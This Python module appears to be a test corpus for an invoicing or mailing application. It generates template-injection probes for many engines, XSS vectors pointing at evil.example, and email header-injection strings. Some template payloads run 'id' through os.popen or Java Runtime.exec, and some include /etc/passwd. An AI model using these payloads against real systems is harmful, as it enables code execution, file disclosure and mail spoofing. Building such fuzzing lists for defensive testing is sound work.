"""What attackers write into every field they find, for all kinds of engines. 13221 is what none of us would ever write."""

from __future__ import annotations

from itertools import product
from typing import Final

EVALUATED: Final = "13221"
"""113 times 117: stands in a result only if somebody has counted."""

_SUMS = (
    "113*117",
    "113 * 117",
    "(113*117)",
    "'113'*117",
    "113|times:117",
    "113 | times: 117",
    "int(113)*117",
)
_BRACES = (
    "{{%s}}",
    "{{ %s }}",
    "{{- %s -}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "*{%s}",
    "@(%s)",
    "{%% print %s %%}",
    "[[${%s}]]",
    "~{%s}",
    "{{=%s}}",
    "{{{%s}}}",
    "{{&%s}}",
    "{%s}",
    "$!{%s}",
    "{php}echo %s;{/php}",
    "@{%s}",
)
_REACHES = (
    "''.__class__.__mro__[1].__subclasses__()",
    "contact_name.__class__",
    "invoices.__init__.__globals__",
    "invoices[0].__class__",
    "invoices.first.items",
    "self",
    "self._TemplateReference__context",
    "config",
    "request.application",
    "lipsum.__globals__['os'].popen('id').read()",
    "cycler.__init__.__globals__.os",
    "joiner",
    "namespace",
    "get_flashed_messages",
    "url_for.__globals__",
    "settings.secret_key",
    "environ",
    "now",
    "today.year",
    "contact_name|attr('__class__')",
    "contact_name.format",
    "contact_name.encode",
    "'%c'|format(49)",
    "range(1,9)",
    "dict(a=1)",
    "true.__class__",
    "nil.to_s",
    "''['__class__']",
    "a.b.c.d",
    "invoices.size.size",
    "contact_name.constructor",
    "this.constructor.constructor('return 1')()",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "_self.env.registerUndefinedFilterCallback('exec')",
    "app.request.server",
)
_TAGS = (
    "{% include '/etc/passwd' %}",
    "{% include 'first_reminder.liquid' %}",
    "{% render '/etc/passwd' %}",
    "{% extends 'x' %}",
    "{% import 'os' as os %}",
    "{% from 'os' import path %}",
    "{% macro x() %}{% endmacro %}",
    "{% block x %}{% endblock %}",
    "{% set x = 113*117 %}{{ x }}",
    "{% liquid\nassign x = 113\necho x %}",
    "{% raw %}{{ 113*117 }}{% endraw %}",
    "{% debug %}",
    "{% load module %}",
    "{% php %}echo 1;{% endphp %}",
    "{% tablerow i in (1..9) %}x{% endtablerow %}",
    "{% layout 'x' %}",
    "{{> /etc/passwd}}",
    "{{#each this}}{{@key}}{{/each}}",
    "{{#with contact_name}}{{constructor}}{{/with}}",
    "{{=<% %>=}}<%113*117%>",
    "{{lookup . 'constructor'}}",
    "<#assign x=113*117>${x}",
    "#set($x=113*117)$x",
    "<%- global.process %>",
)
_FORMATS = (
    "{0.__class__}",
    "{contact_name.__class__.__init__.__globals__}",
    "{0!r}",
    "{:>99999999}",
    "%(secret)s",
    "%s%s%s%n",
    "%99999999d",
    "%x" * 20,
    "$contact_name",
    "${contact_name}",
    "{contact_name}",
    "{}",
    "{0}",
    "{{}}",
    "{{",
    "}}",
    "{%",
    "%}",
)

TEMPLATES: Final = (
    *(brace % one for brace, one in product(_BRACES, _SUMS)),
    *(brace % one for brace, one in product(_BRACES[:6], _REACHES)),
    *_TAGS,
    *_FORMATS,
)
"""For engines of templates."""

_RUN = "window.hits.push(1)"
_PICTURE = "http://evil.example/x"
_VECTORS = (
    "<script>%s</script>",
    "<ScRiPt>%s</sCrIpT>",
    "<script src=%s></script>",
    "<img src=x onerror=%s>",
    "<img src='%s'>",
    "<svg onload=%s>",
    "<svg><script>%s</script></svg>",
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    "<body onload=%s>",
    "<iframe src=javascript:%s>",
    "<iframe srcdoc='<script>parent.%s</script>'>",
    "<a href=javascript:%s>x</a>",
    "<a href='java\tscript:%s'>x</a>",
    "<input autofocus onfocus=%s>",
    "<details open ontoggle=%s>",
    "<video><source onerror=%s>",
    "<audio src=x onerror=%s>",
    "<object data=%s>",
    "<embed src=%s>",
    "<link rel=stylesheet href=%s>",
    "<style>@import '%s';</style>",
    "<base href=%s>",
    "<meta http-equiv=refresh content='0;url=%s'>",
    "<form action=%s><button>x</button></form>",
    "<marquee onstart=%s>x</marquee>",
    "<math><mtext></mtext><script>%s</script></math>",
    "<noscript><p title='</noscript><img src=x onerror=%s>'>",
    "<template><script>%s</script></template>",
    "<textarea autofocus onfocus=%s>",
    "<select autofocus onfocus=%s>",
    "<isindex onfocus=%s>",
    "<bgsound src=%s>",
    "<table background=%s>",
    "<div style=\"background:url('%s')\">",
    "<p style='x:expression(%s)'>",
    "<x onclick=%s>",
    "<!--><script>%s</script>-->",
    "<![CDATA[<script>%s</script>]]>",
    "{{constructor.constructor('%s')()}}",
    "<div hx-get='%s' hx-trigger=load>",
    "<div data-hx-get='%s' hx-trigger=load>",
    "<div hx-on:load='%s'>",
)
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "--></style>",
    f'" autofocus onfocus={_RUN} x="',
)

PAGES: Final = tuple(
    way
    + vector.replace("%s", _PICTURE if "src=%s" in vector or "url" in vector or "href=%s" in vector else _RUN)
    for way, vector in product(_WAYS_OUT, _VECTORS)
)
"""For browsers: each would add to ``window.hits`` or ask evil.example for something."""

_BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\x00",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\r\n ",
    "\n\t",
    "%0d%0a",
    "\\r\\n",
    "=?utf-8?q?=0D=0A?=",
    "=?utf-8?b?DQo=?=",
    "\u560d\u560a",
    "\ud83d",
    "\u202e",
)
_HEADERS = (
    "Bcc: victim@evil.example",
    "Subject: other",
    "To: victim@evil.example",
    "Content-Type: text/html\r\n\r\n<script>",
    "\r\n\r\nbody",
    "From: boss@evil.example",
    "<victim@evil.example>",
    ", victim@evil.example",
    "; victim@evil.example",
    '" <victim@evil.example>',
)

LINES: Final = tuple(f"Ashdown{sign}{header}" for sign, header in product(_BREAKS, _HEADERS))
"""For the header lines of mails."""
